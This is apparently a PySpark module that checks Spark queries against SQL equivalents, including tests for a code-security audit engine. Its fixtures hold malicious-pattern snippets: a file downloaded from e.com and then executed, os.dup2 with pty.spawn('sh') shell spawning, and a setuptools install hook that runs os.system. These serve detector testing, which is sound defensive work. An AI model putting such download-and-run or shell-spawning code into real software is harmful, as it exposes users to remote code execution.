"""Queries over windows of events, orders of a walk, numbered vocabularies and every entry of the catalogues, with their SQL."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from larkspur.functions import catalogue as C
from larkspur.operators import features
from larkspur.operators import rules as R
from larkspur.sources import scan
from larkspur.streaming import state


def _sql_text(x: str) -> str:
    return "'" + x.replace("'", "''") + "'"


def event_windows(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events by hour and kind: the table's side of the monitor's windowed counts."""
    events = spark.read.parquet(f"{sf_dir}/events.parquet")
    return state.windowed_counts(events, "1 hour", "10 minutes", ["event_type"]).withColumn("window_start", F.date_format("window_start", "yyyy-MM-dd HH:mm:ss"))


EVENT_SQL = "SELECT strftime(date_trunc('hour', ts), '%Y-%m-%d %H:%M:%S') AS window_start, event_type, count(*) AS n FROM events WHERE ts IS NOT NULL GROUP BY 1, 2"


def walk_order(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Documents as sources, some in archives (by source and language), numbered as a walk finds them."""
    key = F.col("doc_id").cast("string")
    archive = F.when(F.col("doc_id") % 3 == 0, F.concat(F.lit("d/"), "source", F.lit("/"), "lang", F.lit(".zip")))
    rows = spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", archive.alias("archive_path"), F.concat(F.lit("d"), F.right(key, F.lit(1)), F.lit("/"), key, F.lit(".py")).alias("file_path"), (F.col("doc_id") % 50).cast("int").alias("place"))
    return scan.in_walk_order(rows).select("doc_id", "seq")


WALK_SQL = """
SELECT doc_id, row_number() OVER (ORDER BY translate(coalesce(archive, file), '/', chr(1)), doc_id % 50, file) - 1 AS seq
FROM (SELECT doc_id, CASE WHEN doc_id % 3 = 0 THEN 'd/' || source || '/' || lang || '.zip' END AS archive, 'd' || right(CAST(doc_id AS VARCHAR), 1) || '/' || doc_id || '.py' AS file FROM documents)
"""


def vocabulary(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The distinct names in maps of features, numbered by the first row that has them."""
    rows = spark.read.parquet(f"{sf_dir}/documents.parquet").where("n_chars IS NOT NULL AND source IS NOT NULL")
    name = lambda x: F.concat(F.lit(f"{x}."), F.col(x).cast("string"))
    return features.numbered_names(rows.select("doc_id", F.create_map(name("n_chars"), F.lit(1.0), name("source"), F.lit(2.0)).alias("features")), F.col("doc_id"))


VOCABULARY_SQL = """
SELECT name, row_number() OVER (ORDER BY s, name) - 1 AS number
FROM (SELECT name, min(doc_id) AS s FROM (SELECT doc_id, unnest(['n_chars.' || n_chars, 'source.' || source]) AS name FROM documents WHERE n_chars IS NOT NULL AND source IS NOT NULL) GROUP BY name)
"""

_PATTERNS = [p for p, *_ in C.LITERAL_PATTERNS]
_VARIABLES = list(C.ENV_VARS)
_MODULES = [(m, c, r) for m, _, c, r in C.IMPORTS]
#: One source for each entry of a catalogue: literals, variables, modules.
_ENTRIES = [f"x = {'see ' + p + ' there'!r}\n" for p in _PATTERNS] + [f"import os\nos.getenv({v!r})\n" for v in _VARIABLES] + [f"import {m}\n" for m, *_ in _MODULES]
_CODES = sorted({r for *_, r in C.LITERAL_PATTERNS} | {R.CODE["EnvAccess"]} | {r for *_, r in _MODULES})


def catalogue_entries(spark: SparkSession, sf_dir: str) -> DataFrame:
    """What the audit finds in sources that hold one entry each of the catalogues of patterns, variables and modules."""
    texts = F.array(*map(F.lit, _ENTRIES))
    rows = spark.read.parquet(f"{sf_dir}/documents.parquet").select(
        F.col("doc_id").cast("string").alias("file_id"), F.lit("a.py").alias("file_path"), F.get(texts, (F.col("doc_id") % len(_ENTRIES)).cast("int")).alias("content")
    )
    return R.audit(rows).where(F.col("rule").isin(_CODES)).select("file_id", "rule", "confidence", "label")


_GET = "import os\nfrom urllib.request import urlretrieve\n"
_HOOK = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass A(install):\n    def run(self):\n        {}\nos.system('ls')\n"
_DUP = "import os\nos.dup2(3, 0)\n"
#: Sources in which one fact decides another, and what of it has to be found: rule, confidence, label.
_ORDERED: list[tuple[str, str, list[tuple[str, int, str]]]] = [
    ("a.py", _GET + "urlretrieve('http://e.com/x', 'herefile')\nos.system('./herefile -v')\n", [("HX8000", 4, "http://e.com/x")]),
    ("a.py", _GET + "os.system('./herefile -v')\nurlretrieve('http://e.com/x', 'herefile')\n", []),
    ("a.py", _GET + "urlretrieve('http://e.com/x', 'herefile')\nos.system('./otherfile')\n", []),
    ("a.py", _GET + "urlretrieve('http://e.com/x', 'afile')\nurlretrieve('http://e.com/y', 'afile')\nos.system('afile')\n", [("HX8000", 4, "http://e.com/y")]),
    ("a.py", _GET + "urlretrieve('http://e.com/x', 'afile')\nos.system('afile')\nurlretrieve('http://e.com/y', 'afile')\n", [("HX8000", 4, "http://e.com/x")]),
    ("a.py", _DUP, [("HX3060", 3, "os.dup2")]),
    ("a.py", _DUP + "os.system('sh')\n", [("HX3060", 4, "os.dup2")]),
    ("a.py", "import pty\n" + _DUP + "pty.spawn('sh')\n", [("HX3060", 4, "os.dup2"), ("HX3060", 4, "pty.spawn")]),
    ("setup.py", _HOOK.format("os.system('ls')"), [("HX8040", 5, "A")]),
    ("setup.py", _HOOK.format("pass"), [("HX8040", 3, "A")]),
]


def ordered_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings that other statements of the file decide: downloads that are run, copied descriptors, install hooks."""
    pick = lambda values: F.get(F.array(*map(F.lit, values)), (F.col("doc_id") % len(_ORDERED)).cast("int"))
    rows = spark.read.parquet(f"{sf_dir}/documents.parquet").select(F.col("doc_id").cast("string").alias("file_id"), pick([p for p, *_ in _ORDERED]).alias("file_path"), pick([t for _, t, _ in _ORDERED]).alias("content"))
    return R.audit(rows).where(F.col("rule").isin("HX8000", "HX3060", "HX8040")).select("file_id", "rule", "confidence", "label")


def _values(rows: list[tuple]) -> str:
    return ", ".join("(" + ", ".join(_sql_text(x) if isinstance(x, str) else str(x) for x in row) + ")" for row in rows)


CATALOGUE_SQL = f"""
WITH pattern AS (SELECT * FROM (VALUES {_values([(i, p, c, r) for i, (p, _, c, r) in enumerate(C.LITERAL_PATTERNS)])}) AS t(i, p, confidence, rule)),
other AS (SELECT * FROM (VALUES {_values([(len(_PATTERNS) + i, v, R.MEDIUM, R.CODE['EnvAccess']) for i, v in enumerate(_VARIABLES)] + [(len(_PATTERNS) + len(_VARIABLES) + i, m, c, r) for i, (m, c, r) in enumerate(_MODULES)])}) AS t(k, label, confidence, rule)),
mark AS (SELECT unnest([{', '.join(map(_sql_text, C.DOC_MARKS))}]) AS m),
text AS (
  SELECT i AS k, 'see ' || p || ' there' AS t FROM pattern
  UNION ALL SELECT k, label FROM other WHERE rule = '{R.CODE["EnvAccess"]}' AND strlen(label) BETWEEN {C.LITERAL_BYTES[0]} AND {C.LITERAL_BYTES[1]}),
held AS (
  SELECT k, min(i) AS i FROM text JOIN pattern ON contains(replace(replace(t, '\\\\', '/'), '\\', '/'), p)
  WHERE NOT (regexp_matches(p, '^(import|from) ') AND EXISTS (SELECT 1 FROM mark WHERE contains(lower(t), m))) GROUP BY k),
wanted AS (SELECT k, p AS label, confidence, rule FROM held JOIN pattern USING (i) UNION ALL SELECT k, label, confidence, rule FROM other)
SELECT CAST(doc_id AS VARCHAR) AS file_id, rule, confidence, label FROM documents JOIN wanted ON doc_id % {len(_ENTRIES)} = k
"""

ORDERED_SQL = f"SELECT CAST(doc_id AS VARCHAR) AS file_id, rule, confidence, label FROM documents JOIN (VALUES {_values([(i, *found) for i, (*_, wanted) in enumerate(_ORDERED) for found in wanted])}) AS t(k, rule, confidence, label) ON doc_id % {len(_ORDERED)} = k"

ALL = {
    "event_windows": (event_windows, EVENT_SQL),
    "walk_order": (walk_order, WALK_SQL),
    "vocabulary": (vocabulary, VOCABULARY_SQL),
    "catalogue_entries": (catalogue_entries, CATALOGUE_SQL),
    "ordered_findings": (ordered_findings, ORDERED_SQL),
}
